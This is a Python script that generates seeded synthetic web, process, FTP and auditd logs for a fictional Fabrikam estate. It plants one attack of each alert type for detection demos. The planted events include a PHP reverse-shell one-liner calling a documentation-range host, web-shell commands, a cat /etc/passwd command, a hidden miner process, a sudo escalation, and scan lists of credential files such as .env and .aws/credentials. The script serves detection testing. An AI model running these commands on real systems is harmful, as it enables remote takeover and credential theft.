"""The demo estate's App Service part: Fabrikam's web apps (tests/tools/weblog.py).
demo/generate.py calls it; demo/README.md tells the story and the alerts it must raise.

History: the two weeks before today (24 February to 9 March):
  shop.fabrikam.com     a WordPress shop: customers browse all day, the storefront calls
                        admin-ajax.php, Mia (the admin) logs in from the office every morning,
                        the uploads folder serves product pictures and an empty index.php guard
  blog, docs, careers, status, partners, support .fabrikam.com
                        smaller sites, browsed; an uptime service checks / and /health on
                        all seven every ten minutes
  shop-linux-01         the shop's Linux worker (ECS process events): php-fpm, which sends
                        mail through "sh -c /usr/sbin/sendmail", and a nightly deploy step
                        run from /tmp/oryx-build-<id>/
  shop-win-01           the Windows worker of the legacy site (Sysmon via Winlogbeat):
                        w3wp.exe runs "cmd /c dir" for a diagnostics page
Today (10 March) holds one occurrence of each app.* type, each on a site or host that
otherwise behaves as in its history, so that exactly one alert of each type fires.

Python 3 standard library only; seeded, so the same bytes every run.
"""
import gzip
import os
import random
import sys
from datetime import timedelta

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "tools"))
import weblog as W  # noqa: E402

FIRST_DAY = W.at(2026, 2, 24)
TODAY = W.at(2026, 3, 10)
DAYS = (TODAY - FIRST_DAY).days
SHOP = "shop.fabrikam.com"
SITES = [SHOP, "blog.fabrikam.com", "docs.fabrikam.com", "careers.fabrikam.com", "status.fabrikam.com",
         "partners.fabrikam.com", "support.fabrikam.com"]
OFFICE = "203.0.113.40"
BAD_FTP = "185.220.101.47"              # in appservice/ftp-blocklist.txt
LNX, WIN = "shop-linux-01", "shop-win-01"
BROWSERS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"]
PAGES = ["/", "/shop/", "/product/oak-table/", "/product/linen-chair/", "/blog/2026/02/new-collection/", "/cart/",
         "/wp-content/themes/storefront/style.css", "/wp-includes/js/jquery/jquery.min.js",
         "/wp-includes/js/wp-lists.js", "/wp-content/uploads/2026/02/oak-table-800x800.jpg"]
BLIND_UA = ("Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.2.3) Gecko/20100423 Ubuntu/10.04 (lucid) "
            "Firefox/3.6.3")


def day(n, hh=0, mm=0, ss=0):
    return FIRST_DAY + timedelta(days=n, hours=hh, minutes=mm, seconds=ss)


class Estate:
    def __init__(self, seed):
        self.rnd = random.Random(seed)
        self.http = W.HttpLog()
        self.procs = W.Processes()
        self.ftp = W.FtpLog()
        self.audit = W.Audit(5000)

    def browse(self, d):
        for site in SITES:
            for v in range(30 if site == SHOP else 8):
                ip, ua = "192.0.2.%d" % self.rnd.randint(20, 250), self.rnd.choice(BROWSERS)
                t = day(d, self.rnd.randint(7, 22), self.rnd.randint(0, 59), self.rnd.randint(0, 59))
                for i, p in enumerate(self.rnd.sample(PAGES, 5)):
                    self.http.req(t + timedelta(seconds=3 * i), site, ip, p, ua=ua)
                if site == SHOP:
                    self.http.req(t + timedelta(seconds=20), site, ip, "/wp-admin/admin-ajax.php", method="POST",
                                  ua=ua, referer="https://%s/cart/" % site)
                    if v % 10 == 0:
                        self.http.req(t + timedelta(seconds=21), site, ip, "/wp-content/uploads/index.php", nbytes=0)
        t = day(d, 8, 55)
        self.http.req(t, SHOP, OFFICE, "/wp-login.php", ua=BROWSERS[1])
        self.http.req(t + timedelta(seconds=9), SHOP, OFFICE, "/wp-login.php", method="POST", status=302, ua=BROWSERS[1])
        self.http.req(t + timedelta(seconds=10), SHOP, OFFICE, "/wp-admin/", ua=BROWSERS[1])
        for k in range(0, 24 * 60, 10):
            for i, site in enumerate(SITES):
                tt = day(d, 0, k, i)
                ip = "198.18.50.%d" % (10 + (i + k) % 3)
                self.http.req(tt, site, ip, "/health" if k % 20 else "/", ua="Fabrikam-Uptime/2.1")

    def hosts(self, d):
        if d == 0:
            self.fpm = self.procs.start(day(0, 0, 1), LNX, "/usr/sbin/php-fpm8.2", ["php-fpm: master process"],
                                        user="root", pid=610)
            self.node = self.procs.start(day(0, 0, 1), LNX, "/usr/bin/node", ["node", "/opt/oryx/deploy.js"],
                                         user="app", pid=620)
            self.w3wp = self.procs.start(day(0, 0, 2), WIN, "D:\\Windows\\SysWOW64\\inetsrv\\w3wp.exe",
                                         ["w3wp.exe", "-ap", "legacy"], os_type="windows", user="IIS APPPOOL\\legacy")
        self.procs.start(day(d, 2, 30), LNX, "/tmp/oryx-build-%d/bin/postbuild" % (7000 + d),
                         ["/tmp/oryx-build-%d/bin/postbuild" % (7000 + d), "--minify"], parent=self.node, user="app")
        for h in (10, 15):
            self.procs.start(day(d, h, 12), LNX, "/bin/sh", ["sh", "-c", "/usr/sbin/sendmail -t -i"], parent=self.fpm)
        self.procs.start(day(d, 9, 40), WIN, "C:\\Windows\\System32\\cmd.exe", ["cmd.exe", "/c", "dir D:\\home\\site"],
                         parent=self.w3wp, os_type="windows", user="IIS APPPOOL\\legacy")

    def ftp_history(self, d):
        if d % 7 == 3:
            self.ftp.session(day(d, 18, 0), SHOP, "10.30.0.5", "shop\\$shop-fabrikam",
                             commands=[("STOR", "/site/wwwroot/wp-content/themes/storefront/style.css")])

    def today(self):
        d = DAYS
        self.browse(d)
        self.hosts(d)
        atk = "198.51.100.66"
        # app.wordpress.theme_invocation: the editor, the AJAX save, then the file called
        t = day(d, 2, 10)
        self.http.req(t, "blog.fabrikam.com", atk, "/wp-admin/theme-editor.php", query="file=404.php&theme=twentytwentyfour")
        self.http.req(t + timedelta(seconds=40), "blog.fabrikam.com", atk, "/wp-admin/admin-ajax.php", method="POST",
                      referer="https://blog.fabrikam.com/wp-admin/theme-editor.php?file=404.php&theme=twentytwentyfour")
        self.http.req(t + timedelta(minutes=4), "blog.fabrikam.com", atk,
                      "/wp-content/themes/twentytwentyfour/404.php", query="cmd=id", nbytes=180)
        # app.sensitive_page.anomalous_ip: password guessing on the shop's login page
        for i in range(6):
            self.http.req(day(d, 3, 0, 10 * i), SHOP, "198.51.100.80", "/wp-login.php", method="POST",
                          ua="python-requests/2.32")
        # app.web.fingerprinting: BlindElephant guessing the docs site's application
        t = day(d, 4, 0)
        for i, p in enumerate(["/should/not/exist.html", "/should/not/exist.gif", "/wp-includes/js/wp-lists.js",
                               "/misc/drupal.js", "/misc/throbber.gif", "/media/system/js/mootools.js",
                               "/skins/common/quickbar.css"]):
            self.http.req(t + timedelta(seconds=i), "docs.fabrikam.com", "198.51.100.90", p, status=404, ua=BLIND_UA)
        # app.web.vulnerable_page_scan: a sweep of leftovers on careers that finds .env
        t = day(d, 5, 0)
        for i, p in enumerate(["/.git/config", "/.env", "/phpinfo.php", "/wp-config.php.bak", "/backup.sql",
                               "/.aws/credentials", "/server-status", "/info.php", "/.DS_Store", "/config.json",
                               "/admin.php", "/test.php", "/old/", "/dev/", "/db.php", "/shell.php", "/actuator/env",
                               "/solr/admin/", "/owa/", "/HNAP1", "/wp-content/debug.log", "/cgi-bin/luci"]):
            self.http.req(t + timedelta(seconds=2 * i), "careers.fabrikam.com", "198.51.100.100", p,
                          status=200 if p == "/.env" else 404, ua="curl/8.5.0")
        # app.upload.php_file: a web shell in the shop's uploads
        self.http.req(day(d, 6, 0), SHOP, "198.51.100.110", "/wp-content/uploads/2026/03/cache.php",
                      query="cmd=whoami", nbytes=40)
        # app.scan.cross_host: two addresses sweep three plugin paths over all seven sites
        t = day(d, 1, 0)
        for i, site in enumerate(SITES):
            ip = "198.51.100.120" if i % 2 == 0 else "198.51.100.121"
            for j, p in enumerate(["/wp-content/plugins/revslider/temp/update_extract/revslider/info.php",
                                   "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
                                   "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"]):
                ok = site == "partners.fabrikam.com" and "file-manager" in p
                self.http.req(t + timedelta(minutes=2 * i, seconds=5 * j), site, ip, p, status=200 if ok else 404,
                              ua="Mozilla/5.0 (compatible)")
        # app.ftp.threat_intel_ip
        self.ftp.session(day(d, 23, 40), SHOP, BAD_FTP, "shop\\$shop-fabrikam", commands=[
            ("STOR", "/site/wwwroot/wp-content/uploads/cache.php"), ("RETR", "/site/wwwroot/wp-config.php")])
        # processes
        self.procs.start(day(d, 13, 5), WIN, "C:\\Windows\\System32\\cmd.exe",
                         ["cmd.exe", "/c", "uname -a; cat /etc/passwd"], parent=self.w3wp, os_type="windows",
                         user="IIS APPPOOL\\legacy")
        sh = self.procs.start(day(d, 14), LNX, "/bin/sh", ["sh", "-c", "php -r '$s=fsockopen(\"198.51.100.66\",443);"
                                                                "exec(\"/bin/sh -i <&3 >&3 2>&3\");'"], parent=self.fpm)
        self.procs.start(day(d, 14, 0, 1), LNX, "/usr/bin/php8.2",
                         ["php", "-r", "$s=fsockopen(\"198.51.100.66\",443);exec(\"/bin/sh -i <&3 >&3 2>&3\");"],
                         parent=sh)
        self.procs.start(day(d, 3, 33), LNX, "/dev/shm/.x/kworkerd", ["/dev/shm/.x/kworkerd", "-o", "pool.example:3333"],
                         parent=self.node, user="app")
        # app.process.high_privilege on the support site's worker, from raw auditd records
        t = day(d, 16)
        self.audit.execve(day(d, 0, 0, 5), 1200, 1, "/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=0,
                          node="support-linux-01")
        self.audit.execve(t, 1300, 1200, "/bin/dash", ["sh", "-c", "sudo -n /bin/bash"], node="support-linux-01")
        self.audit.execve(t + timedelta(seconds=1), 1301, 1300, "/usr/bin/sudo", ["sudo", "-n", "/bin/bash"],
                          node="support-linux-01")


def _gz(path, text):
    with gzip.open(path, "wt") as f:
        f.write(text)


def write(outdir, seed):
    """Write the App Service files under outdir; return (options, [(phase, rel)])."""
    e = Estate(seed)
    for sub in ("history", "today"):
        os.makedirs(os.path.join(outdir, sub, "appservice"), exist_ok=True)
    os.makedirs(os.path.join(outdir, "appservice"), exist_ok=True)
    files = []
    for week in range(0, DAYS, 7):
        e.http.reqs, e.procs.events = [], []
        for d in range(week, min(week + 7, DAYS)):
            e.browse(d)
            e.hosts(d)
            e.ftp_history(d)
        stamp = day(week).strftime("%y%m%d")
        for rel, text in (("history/appservice/u_ex%s.log.gz" % stamp, e.http.w3c()),
                          ("history/appservice/processes-%s.jsonl.gz" % stamp, e.procs.jsonl())):
            _gz(os.path.join(outdir, rel), text)
            files.append(("history", rel))
    rel = "history/appservice/ftp-history.log"
    with open(os.path.join(outdir, rel), "w") as f:
        f.write(e.ftp.w3c())
    files.append(("history", rel))
    e.http.reqs, e.procs.events, e.ftp = [], [], W.FtpLog()
    e.ftp.n = 100                       # session ids unlike the history's
    e.today()
    for rel, text in (("today/appservice/appservice-http-2026-03-10.jsonl", e.http.records()),
                      ("today/appservice/processes-2026-03-10.jsonl", e.procs.jsonl()),
                      ("today/appservice/ftp-u_ex260310.log", e.ftp.w3c()),
                      ("today/appservice/support-linux-01-audit.log", e.audit.text())):
        with open(os.path.join(outdir, rel), "w") as f:
            f.write(text)
        files.append(("today", rel))
    with open(os.path.join(outdir, "appservice", "ftp-blocklist.txt"), "w") as f:
        f.write("# addresses seen attacking FTP servers (demo)\n%s\n" % BAD_FTP)
    return [("@intel", "malicious=appservice/ftp-blocklist.txt")], files
